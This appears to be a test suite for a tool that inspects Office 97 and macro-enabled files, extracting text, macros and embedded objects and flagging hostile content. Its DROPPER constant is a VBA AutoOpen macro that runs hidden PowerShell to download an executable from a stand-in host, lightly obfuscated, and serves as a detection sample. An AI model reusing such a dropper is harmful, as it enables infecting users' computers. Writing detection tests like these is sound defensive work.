import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { decompressVba } from '#core/inspect/ole/decompress-vba.ts';
import { openOle } from '#core/inspect/ole/open-ole.ts';
import { readSharedStrings } from '#core/inspect/ole/shared-strings.ts';
import { processorTime } from '../../processor-time.ts';
import { sample } from './samples.ts';
import { aCompoundFile } from './writers/compound-file.ts';
import { anAllowance, damaged, inspectFile } from './writers/inspect-file.ts';
import { compressVba, vbaStreams } from './writers/vba.ts';

const DROPPER = `Sub AutoOpen()
  Dim o As Object
  Set o = CreateObject("WScript.Shell")
  o.Run "po" & "wershell -w hidden iwr ht" & Chr(116) & "p://load" & "er.evil-host.com/a.exe"
End Sub
`;

describe('the macros of a document', () => {
  test('that Excel itself wrote are read, without what it puts above them', async () => {
    const content = await inspectFile(readFileSync('test/fixtures/office/macro.xlsm'), 'macro.xlsm');
    expect(content.texts).toContain('Sub say_hello()\r\n    MsgBox ("Hello from Python!")\r\nEnd Sub\r\n');
    expect(content.warnings).toMatchObject([{ type: 'Macro', keyword: 'VBA macros' }]);
    expect(content.notices).toMatchObject([{ code: 'file_macros', details: { file: 'macro.xlsm' } }]);
  });

  test('that run by themselves and start programs are told of by the name of the document, with the texts that they put together', async () => {
    const content = await inspectFile(aCompoundFile(vbaStreams({ Module1: DROPPER }, 'Macros/')), 'invoice.doc');
    expect(content.texts[0]).toBe(DROPPER);
    expect(content.texts[1]).toContain('powershell -w hidden iwr http://loader.evil-host.com/a.exe');
    expect(content.warnings.map(({ keyword }) => keyword)).toEqual(
      expect.arrayContaining([
        'VBA macros',
        'AutoOpen',
        'CreateObject',
        'WScript.Shell',
        'PowerShell',
        'Chr',
        'http://loader.evil-host.com/a.exe',
      ]),
    );
    expect(content.notices).toMatchObject([{ code: 'file_harmful' }]);
    expect(content.notices[0]?.text).toMatch(/^invoice\.doc runs by itself.*AutoOpen.*WScript\.Shell/);
  });

  test('are found where the list of modules is missing or points elsewhere', async () => {
    const streams = vbaStreams({ Module1: DROPPER, Module2: 'Sub b()\r\nEnd Sub' });
    const lying = Buffer.from(decompressVba(streams['VBA/dir'] ?? new Uint8Array(0), 0, 10_000));
    lying.fill(7, lying.indexOf(Buffer.from([0x31, 0, 4, 0, 0, 0])) + 6, lying.indexOf(Buffer.from([0x31, 0, 4, 0, 0, 0])) + 8);
    for (const dir of [compressVba(lying), compressVba(''), sample(50)]) {
      const { texts = [] } = await openOle({ bytes: aCompoundFile({ ...streams, 'VBA/dir': dir }), filename: '' }, anAllowance());
      expect(texts[0]).toBe(DROPPER);
    }
  });

  test('in chunks of one byte each take no more room than these', () => {
    const packed = Buffer.from(`01${'01b00061'.repeat(200_000)}`, 'hex');
    const before = process.memoryUsage().arrayBuffers;
    expect(decompressVba(packed, 0, 1_000_000)).toHaveLength(200_000);
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(100_000_000);
  });

  test('of any length and content come out as they went in', () => {
    for (const source of ['', 'a', 'ab'.repeat(5000), Buffer.from(sample(9000)).toString('latin1'), 'x'.repeat(4096), DROPPER.repeat(40)]) {
      const unpacked = Buffer.from(decompressVba(compressVba(source), 0, 1_000_000)).toString('latin1');
      expect(unpacked === source, `${source.length} characters, ${source.slice(0, 10)}`).toBe(true);
    }
  });
});

describe('a document of Office 97', () => {
  test('of Word gives the words of its pieces, narrow and wide, and of its fields', async () => {
    const bytes = aCompoundFile(
      aWordDocument(['Pay at http://evil-host.com/a\r', '\u0013HYPERLINK "http://linked-host.com/b"\u0014сюда\u0015\r']),
    );
    const { texts } = await inspectFile(bytes, 'a.doc');
    expect(texts).toHaveLength(1);
    expect(texts[0]).toContain('Pay at http://evil-host.com/a\n');
    expect(texts[0]).toContain('HYPERLINK "http://linked-host.com/b" сюда');
  });

  test('of Excel gives the texts of its cells, also those that go on in the next record', async () => {
    const { texts } = await inspectFile(readFileSync('test/fixtures/office/strings.xls'), 'strings.xls');
    const rows = texts[0]?.split('\n') ?? [];
    expect(rows).toHaveLength(400);
    for (const [index, row] of rows.entries()) {
      expect(row).toBe(
        index % 2 ? `Row ${index} of http://host-${index}.example/ бу` : `Plain number ${index} and nothing else to say of it`,
      );
    }
    const cut = [
      Buffer.concat([u32(1), u32(1), Buffer.from([6, 0, 0]), Buffer.from('abc')]),
      Buffer.concat([Buffer.from([1]), Buffer.from('déf', 'utf16le')]),
    ];
    expect(readSharedStrings(cut)).toEqual(['abcdéf']);
  });

  test.each([
    ['another record behind them', biff(0x0a, Buffer.alloc(0))],
    ['nothing behind them', Buffer.alloc(0)],
  ])('of Excel gives the texts of four hundred thousand cells with %s', async (_, behind) => {
    const cells = Buffer.from(`${'00'.repeat(4)}801a0600${'01000061'.repeat(400_000)}`, 'hex');
    const records = Array.from({ length: Math.ceil(cells.length / 8000) }, (_, n) =>
      biff(n === 0 ? 0xfc : 0x3c, cells.subarray(n * 8000, (n + 1) * 8000)),
    );
    const { notices, texts } = await inspectFile(aCompoundFile({ Workbook: Buffer.concat([...records, behind]) }), 'a.xls');
    expect(notices).toEqual([]);
    expect(texts).toEqual([`${'a\n'.repeat(399_999)}a`]);
  });

  test('of Excel with a hidden sheet of macros that runs by itself is told of', async () => {
    const records = [biff(0x85, Buffer.from([0, 0, 0, 0, 2, 1, 3, 0, 77, 97, 99])), biff(0x18, aName())];
    const { warnings } = await inspectFile(aCompoundFile({ Workbook: Buffer.concat(records) }), 'a.xls');
    expect(warnings).toMatchObject([
      { type: 'Macro', keyword: 'XLM macros', description: expect.stringContaining('hidden') },
      { type: 'AutoExec', keyword: 'Auto_Open' },
    ]);
  });

  test('of PowerPoint gives its texts, and the macros that it keeps packed', async () => {
    const inner = aCompoundFile(vbaStreams({ Module1: DROPPER }));
    const packed = Buffer.concat([u32(inner.length), await deflate(inner)]);
    const slides = Buffer.concat([
      pptRecord(0x0f, 0x03e8, pptRecord(0, 0x0fa0, Buffer.from('Visit http://evil-host.com/p', 'utf16le'))),
      pptRecord(0x10, 0x1011, packed),
    ]);
    const { texts, warnings } = await inspectFile(aCompoundFile({ 'PowerPoint Document': slides }), 'a.ppt');
    expect(texts[0]).toBe('Visit http://evil-host.com/p');
    expect(texts).toContain(DROPPER);
    expect(warnings.map(({ keyword }) => keyword)).toContain('AutoOpen');
  });

  test('with a file put into it has that as a member, and says so', async () => {
    const file = Buffer.from('MZ program');
    const native = Buffer.concat([
      u32(99),
      Buffer.from([2, 0]),
      Buffer.from('bill.exe\0C:\\Users\\x\\bill.exe\0'),
      u32(0x30000),
      u32(4),
      Buffer.from('C:\\\0'),
      u32(file.length),
      file,
    ]);
    const content = await inspectFile(
      aCompoundFile({ 'ObjectPool/_1/\u0001Ole10Native': native, 'ObjectPool/_2/Equation Native': 'x' }),
      'a.doc',
    );
    expect(content.members).toMatchObject([{ part: '2/1', filename: 'bill.exe', size: file.length }]);
    expect(content.notices).toMatchObject([{ code: 'file_suspicious', details: { names: 'Equation.3, OLE package' } }]);
  });

  test.each([
    ['a newer one in a shell', { EncryptedPackage: 'x'.repeat(200), EncryptionInfo: 'x' }],
    ['Excel', { Workbook: biff(0x2f, Buffer.alloc(6)) }],
    ['Word', { WordDocument: Buffer.concat([Buffer.from('eca5', 'hex'), Buffer.alloc(8), Buffer.from([0, 1]), Buffer.alloc(1000)]) }],
  ])('under a password (%s) is told of as such', async (_, streams) => {
    expect(await inspectFile(aCompoundFile(streams), 'a.doc')).toMatchObject({ isEncrypted: true, notices: [{ code: 'file_encrypted' }] });
  });
});

describe('a hostile compound file', () => {
  const whole = aCompoundFile({
    ...vbaStreams({ Module1: DROPPER.repeat(20) }, 'Macros/'),
    ...aWordDocument(['Hello\r', 'мир\r']),
    Workbook: readFileSync('test/fixtures/office/strings.xls').subarray(512, 9000),
  });

  test('cut off or with wrong bytes anywhere neither throws nor takes long', async () => {
    const started = processorTime();
    for (const bytes of damaged(whole, 400)) {
      await openOle({ bytes, filename: 'a.doc' }, anAllowance());
    }
    expect(processorTime() - started).toBeLessThan(8000);
  });

  test('whose tables and lists point in circles is read once', async () => {
    for (const value of [0, 1, 2, 3]) {
      const circle = new Uint8Array(whole);
      const view = new DataView(circle.buffer);
      const fat = (view.getUint32(76, true) + 1) * 512;
      for (let at = fat; at < fat + 512; at += 4) {
        view.setUint32(at, value, true);
      }
      await openOle({ bytes: circle, filename: 'a.doc' }, anAllowance());
    }
  });

  test('whose thousand streams are all the same bytes uses up what may be read, and says so', async () => {
    const many = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`P${index}/\u0001Ole10Native`, 'x'.repeat(100)]));
    const bytes = aCompoundFile({ big: sample(300_000), ...many });
    const start = Buffer.from(bytes).indexOf(Buffer.from('\u0001Ole10Native', 'utf16le'));
    const entries = new DataView(bytes.buffer, bytes.byteOffset);
    for (let at = start; at + 128 <= bytes.length && at > 0; at += 128) {
      if (entries.getUint8(at + 66) === 2) {
        entries.setUint32(at + 116, 0, true);
        entries.setUint32(at + 120, 300_000, true);
      }
    }
    const allowance = anAllowance(5_000_000);
    const { notices = [] } = await openOle({ bytes, filename: 'a.doc' }, allowance);
    expect(notices).toMatchObject([{ code: 'archive_too_large' }]);
    expect(allowance.bytes).toBeGreaterThanOrEqual(0);
  });
});

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32LE(value);
  return bytes;
}

function biff(type: number, data: Uint8Array): Buffer {
  return Buffer.concat([Buffer.from([type & 255, type >> 8, data.length & 255, data.length >> 8]), data]);
}

/** The name that Excel has a number for: the procedure that runs when the workbook opens. */
function aName(): Uint8Array {
  const name = Buffer.alloc(16);
  name.set([0x20, 0, 0, 1]);
  name.set([0, 1], 14);
  return name;
}

function pptRecord(version: number, type: number, data: Uint8Array): Buffer {
  return Buffer.concat([Buffer.from([version, 0, type & 255, type >> 8]), u32(data.length), data]);
}

async function deflate(bytes: Uint8Array): Promise<Uint8Array> {
  const stream = new Blob([new Uint8Array(bytes)]).stream().pipeThrough(new CompressionStream('deflate'));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

/** Of two pieces: the first narrow, the second wide. */
function aWordDocument([narrow, wide]: readonly [string, string]): Record<string, Uint8Array> {
  const head = Buffer.alloc(1024);
  head.writeUInt16LE(0xa5ec, 0);
  const first = Buffer.from(narrow, 'latin1');
  const document = Buffer.concat([head, first, Buffer.from(wide, 'utf16le'), Buffer.alloc(5000)]);
  const places = [0, narrow.length, narrow.length + wide.length].map(u32);
  const descriptor = (place: number) => Buffer.concat([Buffer.alloc(2), u32(place >>> 0), Buffer.alloc(2)]);
  const pieces = Buffer.concat([...places, descriptor((1024 * 2) | 0x4000_0000), descriptor(1024 + first.length)]);
  const table = Buffer.concat([Buffer.from([1, 2, 0, 9, 9]), Buffer.from([2]), u32(pieces.length), pieces]);
  document.writeUInt32LE(table.length, 0x1a6);
  return { WordDocument: document, '0Table': table };
}
